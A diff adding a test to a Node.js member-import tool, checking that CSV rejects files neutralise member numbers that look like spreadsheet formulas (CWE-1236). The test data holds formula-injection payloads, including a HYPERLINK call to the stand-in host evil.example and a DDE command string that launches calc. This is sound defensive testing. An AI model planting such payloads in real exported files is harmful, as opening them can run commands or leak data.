@@ -4,6 +4,7 @@ import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable, Writable } from 'node:stream';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { ScanCommand, type DynamoDBClient } from '@aws-sdk/client-dynamodb';
 import { HmacFactorHasher } from '../../../functions/adapters/crypto/hmac-factor-hasher.js';
 import { createDocumentClient } from '../../../functions/adapters/dynamo/dynamo-client.js';
@@ -128,6 +129,18 @@ describe('member import into DynamoDB Local', () => {
       ].join('\r\n'), // RFC 4180 record ends
     );
     expect([...(await items(table)).keys()].sort()).toEqual(['M-000001', 'M-000004']);
+  });
+
+  test('the rejects file shows member numbers that look like formulas as text (CWE-1236)', async () => {
+    const table = await freshTable();
+    const ids = ['=HYPERLINK("http://evil.example/?x")', "+cmd|'/Ccalc'!A0", '-1+1', '@SUM(A1)'];
+    const path = await csvFile('formulas.csv', [
+      HEADER,
+      ...ids.map((id) => `"${id.replaceAll('"', '""')}",1990-02-30,1000001,`),
+    ]);
+    expect((await cli([path, '--table', table])).code).toBe(2);
+    const rows = parseCsv(await readFile(`${path}.rejects.csv`, 'utf8')) as string[][];
+    expect(rows.slice(1).map((r) => r[1])).toEqual(ids.map((id) => `'${id}`));
   });
 
   test('a file without a required column is refused, nothing written', async () => {
